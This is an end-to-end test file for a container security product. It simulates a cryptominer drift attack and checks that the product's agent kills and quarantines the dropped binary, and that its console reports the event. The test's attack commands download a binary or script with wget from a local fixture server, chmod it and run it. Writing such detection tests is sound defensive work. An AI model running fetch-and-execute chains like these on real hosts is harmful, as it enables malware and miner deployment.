// The reference attack from the design notes, for real and end to end (issue 6): Postgres, the
// built server serving the built console, the built agent with its eBPF sensor, a pod made the
// way the kubelet makes it, a CRI streaming exec session (the `kubectl exec` path), a plain
// Docker container, and an analyst in Chromium. Screenshots land in .driftlock/e2e-artifacts.
//
// Scope: Application Control is switched per namespace (the `shop` namespace of this run's own
// cluster name), so protect mode never reaches containers other than this test's. Plain Docker
// containers have no namespace: the Docker step turns the fleet default on for a few seconds, and
// only with DRIFTLOCK_E2E_EXCLUSIVE_HOST=1 (a host where nothing else runs containers, as in CI);
// the last step checks that no threat was raised outside this test's containers.
import { spawn } from 'child_process';
import { createHash, randomBytes } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import type { Browser, Locator, Page } from 'playwright-core';
import type {
  PolicySettings,
  QuarantineItem,
  StorylineView,
  ThreatDetail,
  ThreatSummary,
} from '@driftlock/protocol';
import {
  buildFixtures,
  Cluster,
  Dockerd,
  FileServer,
  freeLoopbackPort,
  Pod,
  removePod,
  runPod,
  serveFiles,
  startCluster,
} from '../cluster';
import { RunningAgent, startAgent } from '../stack/agent';
import { ARTIFACTS, launchChromium, screenshot } from '../stack/browser';
import { eventually, RestClient } from '../stack/rest';
import { ADMIN_EMAIL, ADMIN_PASSWORD, RunningServer, startServer } from '../stack/server';

const SUFFIX = randomBytes(3).toString('hex');
/** This run's own cluster name: the policy override that switches protection on names it. */
const CLUSTER = `e2e-${SUFFIX}`;
const NODE = `e2e-node-${SUFFIX}`;
const NAMESPACE = 'shop';
const POD_NAME = `node-web-app-${SUFFIX}`;
const POD_LABELS = { app: 'node-web-app', tier: 'frontend' };
const DOCKER_NAME = `shop-web-${SUFFIX}`;
/** A folder of its own, so the containerd of e2e/cluster's suites (and a host one) is left alone. */
const CLUSTER_DIR = '/var/lib/driftlock-test/attack-containerd';
const OVERRIDE_KEY = `namespace/${CLUSTER}/${NAMESPACE}`;
const SCRIPT = '#!/bin/sh\necho "x.sh: running"\nsleep 3\necho "x.sh: finished"\n';

const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/**
 * The attack as a person types it in the session's shell. Applets are named by path: Debian's
 * busybox (the test image's shell) runs a bare `chmod` in a fork without any exec, and a bare
 * `wget` as an exec of /proc/self/exe, so no exec-based storyline could name them.
 */
function minerdAttack(files: FileServer, dir = '/tmp'): string {
  return (
    `mkdir -p ${dir} && cd ${dir} && /usr/bin/wget -q ${files.url}/minerd && ` +
    `/bin/chmod +x minerd && ./minerd; exit $?`
  );
}

let server: RunningServer | undefined;
let agent: RunningAgent | undefined;
let cluster: Cluster | undefined;
let dockerd: Dockerd | undefined;
let files: FileServer | undefined;
let pod: Pod | undefined;
let browser: Browser | undefined;
let page: Page;
let api: RestClient;
let minerdSha256: string;
let dockerId = '';

/** The last lines of a log, without Nest's start-up chatter (modules and routes). */
function tail(text: string, lines = 60): string {
  return text
    .trimEnd()
    .split('\n')
    .filter((l) => !/\[(InstanceLoader|RoutesResolver|RouterExplorer)\]/.test(l))
    .slice(-lines)
    .join('\n');
}

/** What a CI reader needs next to a failed assertion: the agent's and the server's last words. */
function diagnostics(): string {
  return (
    `\n\n--- agent log (last lines) ---\n${agent ? tail(agent.logs()) : '(agent not started)'}` +
    `\n--- server log (last lines) ---\n${server ? tail(server.logs()) : '(server not started)'}`
  );
}

async function withLogs(fn: () => Promise<void>, name = 'setup'): Promise<void> {
  try {
    await fn();
  } catch (error) {
    const original = error as Error;
    // What the browser showed when the step failed, next to the step screenshots.
    const shot = page
      ? await screenshot(
          page,
          `attack-failed-${name.replace(/[^a-z0-9]+/gi, '-').slice(0, 60)}`,
        ).then(
          (file) => `\nscreenshot: ${file}`,
          () => '',
        )
      : '';
    const wrapped = new Error(`${original.message}${shot}${diagnostics()}`);
    const frames = (original.stack ?? '').split('\n').filter((l) => /^\s+at /.test(l));
    wrapped.stack = `${wrapped.message}\n${frames.join('\n')}`;
    throw wrapped;
  }
}

/** `it`, with the agent and server logs attached to any failure. */
function step(name: string, fn: () => Promise<void>, timeoutMs?: number): void {
  it(name, () => withLogs(fn, name), timeoutMs ?? 120_000);
}

// --- helpers -------------------------------------------------------------------------------

/** Runs `fn`; a failure carries `context` (what the test looked at) in its message. */
async function withContext(context: string, fn: () => unknown): Promise<void> {
  try {
    await fn();
  } catch (error) {
    (error as Error).message += `\n\n${context}`;
    throw error;
  }
}

/** A storyline as an indented tree: what an analyst would see, for failure messages. */
function tree(story: StorylineView): string {
  const ids = new Set(story.nodes.map((n) => n.processId));
  const lines: string[] = [];
  const walk = (parent: string | null, depth: number) => {
    for (const n of story.nodes) {
      const isRoot = parent === null && (!n.parentProcessId || !ids.has(n.parentProcessId));
      if (parent === null ? !isRoot : n.parentProcessId !== parent) continue;
      lines.push(
        `${'  '.repeat(depth)}${n.args.join(' ').slice(0, 80) || n.exe} [pid ${n.pid} ppid ${n.ppid} exe ${n.exe}` +
          ` origin ${n.origin ?? '-'} container ${n.containerId?.slice(0, 12) ?? '-'}${n.isThreat ? ' THREAT' : ''}]`,
      );
      walk(n.processId, depth + 1);
    }
  };
  walk(null, 0);
  return lines.join('\n');
}

/** Containers the agent saw that no runtime of this test knows: someone else's. */
function foreignContainers(): string[] {
  const ours = new Set([pod?.id, ...Object.values(pod?.containers ?? {}), dockerId]);
  const ids = new Set<string>();
  for (const m of agent?.logs().matchAll(/no runtime knows ([0-9a-f]{64})/g) ?? []) {
    if (!ours.has(m[1])) ids.add(m[1]);
  }
  return [...ids];
}

function app(): string {
  if (!pod || !cluster) throw new Error('the pod did not start (see beforeAll)');
  return pod.containers.app!;
}

/** A CRI streaming exec session into the pod's app container, as `kubectl exec` opens one. */
async function kubectlExec(
  command: string,
): Promise<{ stdout: string; stderr: string; exitCode: number }> {
  return cluster!.containerd.cri.execStream(app(), ['sh', '-c', command], { timeoutMs: 60_000 });
}

async function podLs(dir: string): Promise<string[]> {
  const res = await cluster!.containerd.cri.execSync(app(), ['ls', '-a', dir], 10);
  return res.stdout.toString().split('\n').filter(Boolean);
}

function docker(args: string[]): Promise<{ stdout: string; stderr: string; exitCode: number }> {
  return new Promise((resolve, reject) => {
    const child = spawn('/usr/bin/docker', ['-H', `unix://${dockerd!.socket}`, ...args], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.once('error', reject);
    child.once('close', (code) => resolve({ stdout, stderr, exitCode: code ?? -1 }));
  });
}

async function allThreats(): Promise<ThreatSummary[]> {
  return (await api.threats('?limit=200')).items;
}

async function threatWhere(
  what: string,
  match: (t: ThreatSummary) => boolean,
): Promise<ThreatDetail> {
  try {
    const summary = await eventually(what, async () => (await allThreats()).find(match), 20_000);
    return await api.threat(summary.id);
  } catch (error) {
    const seen = await allThreats().catch(() => []);
    throw new Error(
      `${(error as Error).message}\nthreats on the server: ${JSON.stringify(seen, null, 1)}`,
    );
  }
}

async function quarantinedFor(threatId: string): Promise<QuarantineItem> {
  return eventually(`the quarantine item of threat ${threatId}`, async () =>
    (await api.quarantine()).find((q) => q.threatId === threatId),
  );
}

/** The mode the agent last told its sensor to enforce for a container, from its log. */
function agentModeOf(containerId: string): string | null {
  let mode: string | null = null;
  for (const line of agent?.logs().split('\n') ?? []) {
    if (!line.includes(containerId)) continue;
    try {
      const entry = JSON.parse(line) as { msg?: string; container?: string; mode?: string };
      if (entry.msg === 'policy: container mode set' && entry.container === containerId) {
        mode = entry.mode ?? null;
      }
    } catch {
      // not a JSON log line
    }
  }
  return mode;
}

/**
 * The server counts a policy as applied when the agent reports its version, which a heartbeat can
 * do before the sensor enforces it; the agent's own log says when the container's mode is in
 * force. Under heavy exec load that can take many seconds.
 */
async function enforced(containerId: string, mode: 'off' | 'detect' | 'protect'): Promise<void> {
  await until(
    `the agent enforcing mode ${mode} in container ${containerId.slice(0, 12)}`,
    async () => agentModeOf(containerId),
    (m) => m === mode,
    30_000,
  );
}

/** Waits until every connected agent runs the latest policy version. */
async function policyApplied(check: (p: Awaited<ReturnType<RestClient['policy']>>) => boolean) {
  return eventually('the policy change applied by the agent', async () => {
    const policy = await api.policy();
    return check(policy) && policy.agentsConnected === 1 && policy.agentsApplied === 1
      ? policy
      : undefined;
  });
}

function shopOverride(
  policy: Awaited<ReturnType<RestClient['policy']>>,
): PolicySettings | undefined {
  const o = policy.overrides.find(
    (x) => x.scope === 'namespace' && x.cluster === CLUSTER && x.namespace === NAMESPACE,
  );
  return o && { enabled: o.enabled, mode: o.mode };
}

async function setShopOverrideByRest(settings: PolicySettings): Promise<void> {
  await api.putOverride({
    scope: 'namespace',
    cluster: CLUSTER,
    namespace: NAMESPACE,
    ...settings,
  });
  await policyApplied((p) => {
    const o = shopOverride(p);
    return o?.enabled === settings.enabled && o.mode === settings.mode;
  });
  await enforced(app(), settings.enabled ? settings.mode : 'off');
}

// --- console -------------------------------------------------------------------------------

async function signIn(): Promise<void> {
  await page.goto(`${server!.url}/`);
  await page.getByTestId('login-email').fill(ADMIN_EMAIL);
  await page.getByTestId('login-password').fill(ADMIN_PASSWORD);
  await page.getByTestId('login-submit').click();
  await page.getByTestId('current-user').waitFor();
}

/** In-app navigation through the sidebar keeps the page (and its live connection) alive. */
async function openPolicyPage(): Promise<Locator> {
  await page.goto(`${server!.url}/policy`);
  const toggle = page
    .locator(`[data-testid="policy-override-row"][data-key="${OVERRIDE_KEY}"]`)
    .getByTestId('policy-override-toggle');
  await toggle.waitFor();
  return toggle;
}

/** The switch's input is visually hidden; a person clicks its label (the track). */
function switchOf(toggle: Locator): Locator {
  return toggle.getByTestId('policy-override-toggle-switch').locator('xpath=ancestor::label[1]');
}

/** Polls a value until it passes `check`; the failure shows the last value seen. */
async function until<T>(
  what: string,
  probe: () => Promise<T>,
  check: (v: T) => boolean,
  ms = 15_000,
): Promise<T> {
  let last: T | undefined;
  try {
    return await eventually(
      what,
      async () => {
        last = await probe();
        return check(last) ? last : undefined;
      },
      ms,
    );
  } catch (error) {
    throw new Error(`${(error as Error).message}; last seen: ${JSON.stringify(last)}`);
  }
}

async function expectToggle(toggle: Locator, enabled: boolean, mode: string): Promise<void> {
  const want = JSON.stringify([String(enabled), mode, 'false']);
  await until(
    `the toggle to show enabled=${enabled} mode=${mode}, saved`,
    async () => [
      await toggle.getAttribute('data-enabled'),
      await toggle.getAttribute('data-mode'),
      await toggle.getAttribute('data-pending'),
    ],
    (v) => JSON.stringify(v) === want,
  );
}

async function openThreat(threatId: string): Promise<Locator> {
  await page.goto(`${server!.url}/threats/${threatId}`);
  const detail = page.locator(`[data-testid="threat-detail"][data-threat-id="${threatId}"]`);
  await detail.waitFor();
  return detail;
}

// --- the stack -----------------------------------------------------------------------------

beforeAll(
  () =>
    withLogs(async () => {
      fs.mkdirSync(ARTIFACTS, { recursive: true });
      // This run's pictures and logs only (other suites share the folder).
      for (const f of fs.readdirSync(ARTIFACTS)) {
        if (f.startsWith('attack-')) fs.rmSync(path.join(ARTIFACTS, f), { force: true });
      }
      server = await startServer();
      // An admin creates an API token once; from then on everything goes through it, as an
      // integration (or a deployment pipeline) would work.
      const admin = await RestClient.signIn(server.url, ADMIN_EMAIL, ADMIN_PASSWORD);
      const { token } = await admin.createApiToken(`e2e integration ${SUFFIX}`);
      api = new RestClient(server.url, { token });
      // Application Control off for the whole fleet; the shop namespace of this run's cluster gets
      // a switch of its own, off too: the analyst turns it on in the console.
      await api.setPolicy({ enabled: false, mode: 'protect' });
      await api.putOverride({
        scope: 'namespace',
        cluster: CLUSTER,
        namespace: NAMESPACE,
        enabled: false,
        mode: 'protect',
      });
      const enrollment = await api.createEnrollmentToken(`e2e node ${SUFFIX}`);

      const fixtures = await buildFixtures();
      const minerd = fs.readFileSync(fixtures.minerd);
      minerdSha256 = sha256(minerd);
      files = await serveFiles({ '/minerd': minerd, '/x.sh': SCRIPT });

      // Pods stay on the host network: the CNI bridge is never used, its subnet is our own anyway.
      process.env.CNI_SUBNET ??= '10.214.77.0/24';
      cluster = await startCluster(CLUSTER_DIR);
      dockerd = await Dockerd.start(cluster.containerd);
      await dockerd.loadImage(cluster.images.nodeWebApp);

      agent = await startAgent({
        server: server.url,
        enrollmentToken: enrollment.token,
        criAddress: cluster.containerd.socket,
        dockerSocket: dockerd.socket,
        cluster: CLUSTER,
        node: NODE,
      });
      await eventually(
        'the agent online with the current policy',
        async () => {
          const agents = await api.agents();
          const policy = await api.policy();
          return agents.some((a) => a.status === 'online') && policy.agentsApplied === 1
            ? true
            : undefined;
        },
        30_000,
      );

      pod = await runPod(cluster.containerd.cri, {
        name: POD_NAME,
        namespace: NAMESPACE,
        labels: POD_LABELS,
        containers: [
          {
            name: 'app',
            image: cluster.images.nodeWebApp.tag,
            env: { PORT: String(await freeLoopbackPort()) },
          },
        ],
      });
      // The agent knows the pod's container (and its cgroup) before anything runs in it.
      await until(
        'the agent to know the pod',
        async () => agentModeOf(app()),
        (m) => m !== null,
        30_000,
      );

      browser = await launchChromium();
      page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
      page.setDefaultTimeout(20_000);
    }),
  240_000,
);

afterAll(async () => {
  const problems: string[] = [];
  const attempt = async (what: string, fn: () => Promise<unknown>) => {
    try {
      await fn();
    } catch (error) {
      problems.push(`${what}: ${(error as Error).message}`);
    }
  };
  await attempt('close Chromium', async () => browser?.close());
  if (agent) fs.writeFileSync(path.join(ARTIFACTS, 'attack-agent.log'), agent.logs());
  if (server) fs.writeFileSync(path.join(ARTIFACTS, 'attack-server.log'), server.logs());
  await attempt('stop the agent', async () => agent?.stop());
  await attempt(
    'remove the pod',
    async () => cluster && pod && removePod(cluster.containerd.cri, pod),
  );
  await attempt('stop dockerd', async () => dockerd?.stop());
  await attempt('stop containerd', async () => cluster?.stop());
  await attempt('close the file server', async () => files?.close());
  await attempt('stop the server', async () => server?.stop());
  if (problems.length) throw new Error(`cleanup: ${problems.join('; ')}`);
}, 120_000);

// --- the scenario --------------------------------------------------------------------------

describe('the reference attack', () => {
  let minerdThreat: ThreatDetail | undefined;
  let dockerThreat: ThreatDetail | undefined;

  step(
    'an integration enrolls the agent with a token it created through the REST API',
    async () => {
      const agents = await api.agents();
      expect(agents).toHaveLength(1);
      expect(agents[0]).toMatchObject({
        status: 'online',
        kind: 'kubernetes',
        cluster: CLUSTER,
        node: NODE,
        capabilities: { inKernelKill: true },
      });
    },
  );

  step(
    'an analyst switches Application Control on for the shop namespace with one click',
    async () => {
      await signIn();
      const toggle = await openPolicyPage();
      await expectToggle(toggle, false, 'protect');
      await screenshot(page, 'attack-01-policy-off');
      await switchOf(toggle).click();
      await expectToggle(toggle, true, 'protect');
      const policy = await policyApplied((p) => shopOverride(p)?.enabled === true);
      expect(shopOverride(policy)).toEqual({ enabled: true, mode: 'protect' });
      expect(policy.default.enabled).toBe(false);
      await enforced(app(), 'protect');
      // The page does not refresh the applied count when the agent applies: open it again.
      await until(
        'the console to show the change applied by the agent',
        async () => {
          await openPolicyPage();
          return page.getByTestId('policy-agents-applied').textContent({ timeout: 5_000 });
        },
        (t) => (t ?? '').includes('1/1'),
        30_000,
      );
      await screenshot(page, 'attack-02-policy-on');
    },
  );

  step(
    'kills ./minerd downloaded in a kubectl exec session before it runs (exit 137) and quarantines it',
    async () => {
      // The analyst watches the threat list while the attack happens.
      await page.goto(`${server!.url}/threats`);
      await page.getByTestId('threats-table').waitFor();
      await page.evaluate('window.__sameDocument = true');
      await screenshot(page, 'attack-03-threats-before-attack');

      const session = await kubectlExec(minerdAttack(files!));
      expect(files!.requests).toContain('/minerd');
      expect({ exitCode: session.exitCode, stdout: session.stdout }).toEqual({
        exitCode: 137,
        stdout: expect.not.stringContaining('minerd: mining'),
      });
      const threat = await threatWhere(
        'a protect-mode threat for /tmp/minerd',
        (t) => t.filePath === '/tmp/minerd' && t.mode === 'protect',
      );
      minerdThreat = threat;
      expect(threat).toMatchObject({
        mitigation: 'killed_quarantined',
        file: { path: '/tmp/minerd', sha256: minerdSha256 },
        mitigations: expect.arrayContaining([
          expect.objectContaining({ action: 'kill', outcome: 'succeeded', exitCode: 137 }),
          expect.objectContaining({
            action: 'quarantine',
            outcome: 'succeeded',
            sha256: minerdSha256,
          }),
        ]),
      });
      await eventually('minerd gone from the pod', async () =>
        (await podLs('/tmp')).includes('minerd') ? undefined : true,
      );
      expect(await quarantinedFor(threat.id)).toMatchObject({
        path: '/tmp/minerd',
        sha256: minerdSha256,
        status: 'quarantined',
      });
    },
  );

  step(
    'reports the threat through the REST API with engine, pod, labels, namespace, node and image',
    async () => {
      const threat = minerdThreat;
      if (!threat) throw new Error('no minerd threat (the attack step failed)');
      expect(threat).toMatchObject({
        commandLine: './minerd',
        engine: 'application_control',
        driftClass: 'new_binary',
        mode: 'protect',
        namespace: NAMESPACE,
        podName: POD_NAME,
        node: NODE,
        kubernetes: {
          podName: POD_NAME,
          namespace: NAMESPACE,
          podLabels: POD_LABELS,
          containerName: 'app',
          node: NODE,
          cluster: CLUSTER,
        },
        container: {
          id: app(),
          runtime: 'containerd',
          image: cluster!.images.nodeWebApp.tag,
        },
      });
    },
  );

  step(
    'the console shows the threat live, with command line, engine, mitigations and pod context',
    async () => {
      const threat = minerdThreat;
      if (!threat) throw new Error('no minerd threat (the attack step failed)');
      // Still the page opened before the attack: the row arrived without a reload.
      const row = page.locator(`[data-testid="threat-row"][data-threat-id="${threat.id}"]`);
      await row.waitFor({ timeout: 15_000 });
      expect(await page.evaluate('window.__sameDocument === true')).toBe(true);
      expect(await row.getByTestId('threat-command-line').textContent()).toContain('./minerd');
      await screenshot(page, 'attack-04-threat-live');

      await row.getByTestId('threat-command-line').click();
      const detail = page.locator(`[data-testid="threat-detail"][data-threat-id="${threat.id}"]`);
      await detail.waitFor();
      await detail.getByTestId('mitigation-badges').waitFor();
      await screenshot(page, 'attack-05-threat-forensics');
      const text = (id: string) => detail.getByTestId(id).first().innerText({ timeout: 5_000 });
      expect((await text('threat-command-line')).trim()).toBe('./minerd');
      expect(await text('threat-engine')).toContain('Application Control');
      expect(await text('badge-killed')).toContain('KILLED');
      expect(await text('badge-quarantined')).toContain('QUARANTINED');
      expect(await text('threat-pod')).toBe(POD_NAME);
      expect(await text('threat-namespace')).toBe(NAMESPACE);
      expect(await text('threat-node')).toBe(NODE);
      expect(await text('threat-image')).toContain('node-web-app');
      expect(
        (await detail.getByTestId('pod-label').allInnerTexts()).map((l) => l.trim()).sort(),
      ).toEqual(['app=node-web-app', 'tier=frontend']);
    },
  );

  step(
    'the storyline API shows the kubectl exec session root -> sh -> wget, chmod and the marked minerd',
    async () => {
      const threat = minerdThreat;
      if (!threat) throw new Error('no minerd threat (the attack step failed)');
      const story = await api.storyline(threat.id);
      await withContext(
        `storyline ${story.storylineId} (origin ${story.origin}):\n${tree(story)}`,
        () => checkStoryline(story),
      );
    },
  );

  function checkStoryline(story: StorylineView): void {
    const byId = new Map(story.nodes.map((n) => [n.processId, n]));
    const name = (n: { exe: string; args: string[] }) => path.posix.basename(n.args[0] ?? n.exe);
    const minerd = byId.get(story.threatProcessId);
    expect(minerd && { name: name(minerd), isThreat: minerd.isThreat }).toEqual({
      name: 'minerd',
      isThreat: true,
    });
    const shell = byId.get(minerd!.parentProcessId ?? '');
    expect(shell && name(shell)).toBe('sh');
    const siblings = story.nodes.filter((n) => n.parentProcessId === shell!.processId).map(name);
    expect(siblings).toEqual(expect.arrayContaining(['wget', 'chmod', 'minerd']));
    // The session's root is the process the runtime started for the exec, labelled as such.
    let root = shell!;
    while (root.parentProcessId && byId.has(root.parentProcessId))
      root = byId.get(root.parentProcessId)!;
    expect({ storyline: story.origin, root: root.origin }).toEqual({
      storyline: 'kubectl_exec',
      root: 'kubectl_exec',
    });
  }

  step(
    'the console draws the storyline sh -> wget, chmod, minerd with minerd marked KILLED and QUARANTINED',
    async () => {
      const threat = minerdThreat;
      if (!threat) throw new Error('no minerd threat (the attack step failed)');
      await openThreat(threat.id);
      await page.getByTestId('open-storyline').click();
      const svg = page.getByTestId('storyline-svg');
      await svg.waitFor();
      const nodes = svg.getByTestId('storyline-node');
      await until(
        'the storyline drawn',
        () => nodes.count(),
        (n) => n >= 4,
      );
      await screenshot(page, 'attack-06-storyline');
      const names: (string | null)[] = [];
      for (const n of await nodes.all()) names.push(await n.getAttribute('data-name'));
      expect(names).toEqual(expect.arrayContaining(['sh', 'wget', 'chmod', 'minerd']));
      const marked = svg.locator('[data-testid="storyline-node"][data-threat="true"]');
      expect(await marked.getAttribute('data-name')).toBe('minerd');
      const marks = await marked.getByTestId('storyline-threat-marks').textContent();
      expect(marks).toContain('KILLED');
      expect(marks).toContain('QUARANTINED');
      expect(await page.locator('body').textContent()).toMatch(/kubectl exec/i);
    },
  );

  step('kills a downloaded shell script run with sh x.sh and quarantines it', async () => {
    await setShopOverrideByRest({ enabled: true, mode: 'protect' });
    const session = await kubectlExec(
      `mkdir -p /tmp/script && cd /tmp/script && /usr/bin/wget -q ${files!.url}/x.sh && sh x.sh; exit $?`,
    );
    expect({
      exitCode: session.exitCode,
      finished: session.stdout.includes('x.sh: finished'),
    }).toEqual({
      exitCode: 137,
      finished: false,
    });
    const threat = await threatWhere(
      'a threat for /tmp/script/x.sh',
      (t) => t.filePath === '/tmp/script/x.sh',
    );
    expect(threat).toMatchObject({
      driftClass: 'script_via_interpreter',
      mode: 'protect',
      file: { sha256: sha256(SCRIPT) },
    });
    expect(threat.mitigations).toEqual(
      expect.arrayContaining([expect.objectContaining({ action: 'kill', outcome: 'succeeded' })]),
    );
    await eventually('x.sh gone from the pod', async () =>
      (await podLs('/tmp/script')).includes('x.sh') ? undefined : true,
    );
    expect(await quarantinedFor(threat.id)).toMatchObject({ sha256: sha256(SCRIPT) });
    const detail = await openThreat(threat.id);
    await detail.getByTestId('badge-killed').waitFor();
    await screenshot(page, 'attack-07-script-threat');
  });

  step('kills and quarantines the same attack in a plain Docker container', async () => {
    // Plain containers have no namespace: only the fleet default covers them, and the agent
    // applies it to every container it sees, its runtimes' or not. So the default goes on for this
    // step only, only on a host that runs nothing else, and not while the agent sees containers
    // that are not this test's.
    if (process.env.DRIFTLOCK_E2E_EXCLUSIVE_HOST !== '1') {
      throw new Error(
        'not run: a plain Docker container can only be protected through the fleet default, ' +
          'which the agent applies to every container on this host (also those no runtime of its ' +
          "knows), so it would reach containers that are not this test's. Set " +
          'DRIFTLOCK_E2E_EXCLUSIVE_HOST=1 where nothing else runs containers (CI).',
      );
    }
    const foreign = foreignContainers();
    if (foreign.length > 0) {
      throw new Error(
        `not switching the fleet default on: the agent also sees ${foreign.length} container(s) ` +
          `that are not this test's (${foreign.map((id) => id.slice(0, 12)).join(', ')}), and ` +
          `protect mode would reach them`,
      );
    }
    await api.setPolicy({ enabled: true, mode: 'protect' });
    try {
      await policyApplied((p) => p.default.enabled);
      dockerId = (
        await docker([
          'run',
          '-d',
          '--network',
          'host',
          '--name',
          DOCKER_NAME,
          '--env',
          `PORT=${await freeLoopbackPort()}`,
          cluster!.images.nodeWebApp.tag,
        ])
      ).stdout.trim();
      expect(dockerId).toMatch(/^[0-9a-f]{64}$/);
      await enforced(dockerId, 'protect');
      const session = await docker(['exec', DOCKER_NAME, 'sh', '-c', minerdAttack(files!)]);
      expect({
        exitCode: session.exitCode,
        ran: session.stdout.includes('minerd: mining'),
      }).toEqual({ exitCode: 137, ran: false });
      const ls = await docker(['exec', DOCKER_NAME, 'ls', '/tmp']);
      expect(ls.stdout.split('\n')).not.toContain('minerd');
      dockerThreat = await threatWhere(
        'a threat for the attack in the Docker container',
        (t) => t.filePath === '/tmp/minerd' && t.id !== minerdThreat?.id,
      );
      expect(dockerThreat).toMatchObject({
        mitigation: 'killed_quarantined',
        file: { sha256: minerdSha256 },
        mitigations: expect.arrayContaining([
          expect.objectContaining({ action: 'kill', outcome: 'succeeded' }),
          expect.objectContaining({ action: 'quarantine', outcome: 'succeeded' }),
        ]),
      });
      expect(await quarantinedFor(dockerThreat.id)).toMatchObject({
        sha256: minerdSha256,
        status: 'quarantined',
      });
    } finally {
      await api.setPolicy({ enabled: false, mode: 'protect' });
      await policyApplied((p) => !p.default.enabled);
      await docker(['rm', '-f', DOCKER_NAME]);
    }
  });

  step('names the Docker container and its image in the threat and in the console', async () => {
    const threat = dockerThreat;
    if (!threat) throw new Error('no Docker threat (the Docker attack step failed)');
    expect(threat).toMatchObject({
      kubernetes: null,
      containerName: DOCKER_NAME,
      image: cluster!.images.nodeWebApp.tag,
      container: {
        id: dockerId,
        name: DOCKER_NAME,
        runtime: 'docker',
        image: cluster!.images.nodeWebApp.tag,
      },
    });
    const detail = await openThreat(threat.id);
    await detail.getByTestId('badge-killed').waitFor();
    await detail.getByTestId('badge-quarantined').waitFor();
    await screenshot(page, 'attack-08-docker-threat');
    expect(await detail.getByTestId('threat-container-name').innerText()).toBe(DOCKER_NAME);
    expect(await detail.getByTestId('threat-image').innerText()).toContain(
      cluster!.images.nodeWebApp.tag,
    );
  });

  step('with Application Control switched off, ./minerd runs and no threat is raised', async () => {
    await setShopOverrideByRest({ enabled: true, mode: 'protect' });
    const toggle = await openPolicyPage();
    await switchOf(toggle).click();
    await expectToggle(toggle, false, 'protect');
    await policyApplied((p) => shopOverride(p)?.enabled === false);
    await enforced(app(), 'off');
    await screenshot(page, 'attack-09-policy-switched-off');

    const before = (await allThreats()).length;
    const session = await kubectlExec(minerdAttack(files!, '/tmp/off'));
    expect({ exitCode: session.exitCode, stdout: session.stdout }).toEqual({
      exitCode: 0,
      stdout: expect.stringContaining('minerd: mining'),
    });
    // Give a threat every chance to arrive (the agent batches every 200 ms).
    await sleep(4_000);
    const after = await allThreats();
    expect(after.filter((t) => t.filePath.startsWith('/tmp/off/'))).toEqual([]);
    expect(after).toHaveLength(before);
  });

  step(
    'in detect mode ./minerd runs and a threat is raised with mitigation none (detect mode)',
    async () => {
      await setShopOverrideByRest({ enabled: false, mode: 'protect' });
      const toggle = await openPolicyPage();
      await toggle.getByText('Detect', { exact: true }).click();
      await expectToggle(toggle, false, 'detect');
      await switchOf(toggle).click();
      await expectToggle(toggle, true, 'detect');
      await policyApplied(
        (p) => shopOverride(p)?.enabled === true && shopOverride(p)?.mode === 'detect',
      );
      await enforced(app(), 'detect');
      await screenshot(page, 'attack-10-policy-detect');

      const session = await kubectlExec(minerdAttack(files!, '/tmp/detect'));
      expect({ exitCode: session.exitCode, stdout: session.stdout }).toEqual({
        exitCode: 0,
        stdout: expect.stringContaining('minerd: mining'),
      });
      const threat = await threatWhere(
        'a detect-mode threat for /tmp/detect/minerd',
        (t) => t.filePath === '/tmp/detect/minerd',
      );
      expect(threat).toMatchObject({
        mode: 'detect',
        mitigation: 'detected',
        commandLine: './minerd',
        file: { sha256: minerdSha256 },
      });
      expect(threat.mitigations).toEqual([
        expect.objectContaining({ action: 'none', detail: expect.stringContaining('detect mode') }),
      ]);
      // Detect mode leaves the file where it is.
      expect(await podLs('/tmp/detect')).toContain('minerd');

      const detail = await openThreat(threat.id);
      await detail.getByTestId('badge-detected').waitFor();
      expect(await detail.getByTestId('badge-killed').count()).toBe(0);
      await screenshot(page, 'attack-11-detect-threat');
      await setShopOverrideByRest({ enabled: false, mode: 'protect' });
    },
  );

  step(
    "raises threats only in this test's containers: protection reaches nothing else",
    async () => {
      const ours = new Set([...Object.values(pod?.containers ?? {}), dockerId]);
      const threats = await Promise.all((await allThreats()).map((t) => api.threat(t.id)));
      const elsewhere = threats
        .filter((t) => !ours.has(t.container?.id ?? ''))
        .map(
          (t) => `${t.commandLine} in container ${t.container?.id ?? '(none)'}: ${t.mitigation}`,
        );
      expect(elsewhere).toEqual([]);
    },
  );
});
